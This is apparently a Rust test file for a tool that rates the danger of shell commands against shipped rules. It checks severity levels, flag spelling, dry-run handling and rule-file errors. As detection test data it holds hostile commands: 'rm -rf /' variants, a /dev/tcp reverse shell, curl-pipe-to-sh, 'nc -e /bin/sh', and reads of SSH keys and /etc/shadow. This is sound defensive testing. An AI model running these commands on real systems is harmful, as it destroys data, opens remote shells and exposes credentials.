use std::sync::LazyLock;

use super::*;

const SHIPPED: &str = include_str!("../../../config/rules.toml");

/// Compiling them takes a while without optimisation: once is enough.
fn shipped() -> &'static Rules {
    static RULES: LazyLock<Rules> =
        LazyLock::new(|| Rules::load(&[("config/rules.toml", SHIPPED)]).unwrap_or_else(|error| panic!("{error}")));
    &RULES
}

fn load(text: &str) -> Result<Rules, RulesError> {
    Rules::load(&[("a.toml", text)])
}

fn fault(text: &str) -> String {
    load(text).expect_err("the file has a fault").to_string()
}

fn hits(rules: &Rules, text: &str) -> Vec<(String, Level)> {
    let reasons = rules.matches(&command::parse(text, Dialect::Bash));
    reasons.into_iter().map(|reason| (reason.rule, reason.level)).collect()
}

fn gravest(rules: &Rules, text: &str) -> Level {
    hits(rules, text).first().map_or(Level::Low, |(_, level)| *level)
}

/// A file with one rule; `condition` is the inside of its only condition.
fn one(condition: &str) -> String {
    format!(
        "[[rule]]\nid = \"a.b\"\nfamily = \"f\"\nlevel = \"high\"\nsentence = \"S.\"\nwhen = [{{ {condition} }}]\n\
         match = []\nno_match = []\n"
    )
}

#[test]
fn every_shipped_rule_behaves_as_its_examples_say() {
    let faults = shipped().check_examples();
    let report: Vec<_> = faults.iter().map(ToString::to_string).collect();
    assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), report.join("\n"));
}

#[test]
fn the_shipped_rules_are_many_and_each_family_has_some() {
    let rules = shipped();
    assert!(rules.len() >= 120, "{}", rules.len());
    for family in [
        "filesystem",
        "storage",
        "service",
        "boot",
        "package",
        "account",
        "network",
        "database",
        "container",
        "cloud",
        "version-control",
        "backup",
        "tampering",
        "remote-code",
        "persistence",
        "privilege",
        "credential",
        "exfiltration",
        "disguise",
    ] {
        assert!(rules.families().any(|(_, of)| of == family), "{family}");
    }
}

#[test]
fn the_level_of_a_deletion_follows_its_target() {
    let rules = shipped();
    assert_eq!(gravest(rules, "rm -rf ./build"), Level::Medium);
    assert_eq!(gravest(rules, "rm -rf /etc/x"), Level::High);
    assert_eq!(gravest(rules, "rm -rf /"), Level::Critical);
    assert_eq!(gravest(rules, "ls -la /"), Level::Low);
}

#[test]
fn the_spelling_of_flags_and_quotes_does_not_matter() {
    let rules = shipped();
    for text in [
        "rm -rf /",
        "rm -r -f /",
        "rm --recursive --force /",
        "rm --rec -f /",
        "/bin/rm -fr /",
        "'rm' -rf \"/\"",
        "sudo rm -rf /",
        "sh -c 'rm -rf /'",
        "rm -rf ///",
        "rm -rf /tmp/..",
    ] {
        assert_eq!(gravest(rules, text), Level::Critical, "{text}");
    }
}

#[test]
fn an_exception_for_one_operand_does_not_cover_another() {
    let rules = shipped();
    assert!(gravest(rules, "rm -rf node_modules /srv/app") >= Level::High);
    assert!(gravest(rules, "rm -rf /tmp/x /srv/app") >= Level::High);
    assert!(gravest(rules, "find . -name __pycache__ -o -name '*.py' -delete") >= Level::High);
    assert!(gravest(rules, "find /tmp/x /srv -delete") >= Level::High);
}

#[test]
fn what_tools_send_by_themselves_is_never_a_question() {
    let rules = shipped();
    for text in [
        "/bin/sh -c '( umask 77 && mkdir -p \"` echo ~/.ansible/tmp `\" ) && sleep 0'",
        "/bin/sh -c 'chmod u+x ~/.ansible/tmp/ansible-tmp-17.1-4-2/AnsiballZ_setup.py && sleep 0'",
        "/bin/sh -c 'sudo -H -S -n -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-x ; /usr/bin/python3 ~/.ansible/tmp/ansible-tmp-17.1-4-2/AnsiballZ_setup.py'\"'\"' && sleep 0'",
        "/bin/sh -c 'rm -f -r /home/bob/.ansible/tmp/ansible-tmp-17.1-4-2/ > /dev/null 2>&1 && sleep 0'",
        "~/.vscode-server/bin/abc/bin/code-server --start-server --host=127.0.0.1 --port=0 --connection-token-file ~/.vscode-server/.abc.token",
        "curl -fsSL https://update.code.visualstudio.com/commit:abc/server-linux-x64/stable -o ~/.vscode-server/vscode-cli.tar.gz",
        "rm -rf ~/.vscode-server/bin/abc",
        "~/.cache/JetBrains/RemoteDev/dist/abc/bin/remote-dev-server.sh run ~/p --ssh-link-host x --temporary",
        "rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/www/",
        "rsync --server -logDtpre.iLsfxCIvu --delete . /srv/www/",
        "scp -r -p -t /srv/www",
        "git-upload-pack '/srv/git/x.git'",
        ".mutagen/agents/0.17.2/mutagen-agent synchronizer --log-level=info",
        "tmux -CC new -A -s main",
        "docker system dial-stdio",
    ] {
        assert!(gravest(rules, text) < Level::High, "{text}: {:?}", hits(rules, text));
    }
    assert_eq!(
        gravest(rules, "mosh-server new -s"),
        Level::Critical,
        "it goes past the bastion"
    );
}

#[test]
fn danger_that_is_only_spoken_of_is_no_danger() {
    let rules = shipped();
    for text in [
        "echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
        "grep -rn 'cat ~/.ssh/id_rsa' docs | wc -l",
        "git commit -m 'detect nc -e /bin/sh and curl http://x.example | sh'",
        "gh issue create --title audit --body 'found cat /etc/shadow in history'",
        "echo 'never run: rm -rf /' >> notes.md",
        "ls # curl http://x.example | sh",
    ] {
        assert!(gravest(rules, text) < Level::High, "{text}: {:?}", hits(rules, text));
    }
    for text in [
        "echo 'rm -rf /' | sh",
        "grep -rl 'BEGIN RSA PRIVATE KEY' /home",
        "echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > x.sh",
        "git -c core.pager='sh -c id' log",
    ] {
        assert!(gravest(rules, text) >= Level::High, "{text}");
    }
}

#[test]
fn the_last_word_on_a_dry_run_counts() {
    let rules = shipped();
    assert!(gravest(rules, "kubectl delete ns x --dry-run=client") < Level::High);
    assert!(gravest(rules, "kubectl delete ns x --dry-run=client --dry-run=none") >= Level::High);
    assert!(gravest(rules, "git push --mirror --dry-run --no-dry-run origin") >= Level::High);
    assert!(
        gravest(rules, "helm uninstall web --kube-context --dry-run") >= Level::High,
        "here it is the value of another flag"
    );
}

#[test]
fn what_was_not_understood_is_matched_by_its_words() {
    let rules = shipped();
    let script = Script {
        commands: Vec::new(),
        ..command::parse("if ; rm -rf /etc/x", Dialect::Bash)
    };
    assert!(
        !script.understood(),
        "the text must not be understood for this to test anything"
    );
    assert!(
        rules
            .matches(&script)
            .iter()
            .any(|reason| reason.rule == "fs.remove-system")
    );
}

#[test]
fn reasons_come_gravest_first_and_once() {
    let found = hits(shipped(), "rm -rf /; rm -rf /; rm x.log *.log");
    let mut sorted = found.clone();
    sorted.sort_by_key(|(_, level)| std::cmp::Reverse(*level));
    assert_eq!(found, sorted);
    let distinct: BTreeSet<_> = found.iter().map(|(id, _)| id).collect();
    assert_eq!(distinct.len(), found.len());
}

#[test]
fn a_later_file_may_change_a_level_or_switch_a_rule_off() {
    let first = one("program = [\"foo\"]");
    let with = |change: &str| {
        let second = format!("[[override]]\nid = \"a.b\"\n{change}\n");
        Rules::load(&[("a.toml", &first), ("b.toml", &second)])
    };
    assert_eq!(
        hits(&with("level = \"low\"").unwrap(), "foo"),
        [("a.b".to_owned(), Level::Low)]
    );
    assert_eq!(hits(&with("off = true").unwrap(), "foo"), []);
    assert!(with("").unwrap_err().to_string().starts_with("b.toml:2: "));
    assert!(with("off = true\nlevel = \"low\"").is_err(), "one thing only");
}

#[test]
fn a_fault_names_file_line_and_remedy() {
    assert!(
        fault("[[rule]]\nid = \"a\"\nnonsense = 1\n").starts_with("a.toml:3: "),
        "unknown keys are faults"
    );
    let pattern = fault(&one("words = '('"));
    assert!(
        pattern.starts_with("a.toml:2: ") && pattern.contains("correct the regular expression"),
        "{pattern}"
    );
    let class = fault(&one("operands = [\"rot\"]"));
    assert!(class.contains("`rot`") && class.contains("root, system"), "{class}");
    assert!(fault(&one("")).contains("empty condition"));
    let unknown = fault("[[override]]\nid = \"x\"\noff = true\n");
    assert!(
        unknown.starts_with("a.toml:2: ") && unknown.contains("no rule `x`"),
        "{unknown}"
    );
    let missing = fault(&one("program = [\"x\"]").replacen("match = []", "unless = [\"nothing\"]\nmatch = []", 1));
    assert!(missing.contains("[exceptions.nothing]"), "{missing}");
}

#[test]
fn two_rules_may_not_share_an_id() {
    let rule = one("program = [\"foo\"]");
    let error = Rules::load(&[("a.toml", &rule), ("b.toml", &rule)])
        .unwrap_err()
        .to_string();
    assert!(
        error.starts_with("b.toml:2: ") && error.contains("[[override]]"),
        "{error}"
    );
}

#[test]
fn an_example_that_does_not_hold_is_found() {
    let rules = load(&one("program = [\"foo\"]").replace("no_match = []", "no_match = [\"foo\"]")).unwrap();
    let faults = rules.check_examples();
    assert_eq!(faults.len(), 1);
    assert_eq!(
        faults[0].to_string(),
        "a.toml:2: rule `a.b` matches its example `foo`; correct the rule or the example"
    );
}

proptest::proptest! {
    #[test]
    fn any_text_is_matched_and_its_reasons_sorted(text in "\\PC{0,200}") {
        let reasons = shipped().matches(&command::parse(&text, Dialect::Bash));
        assert!(reasons.is_sorted_by_key(|reason| std::cmp::Reverse(reason.level)));
    }
}
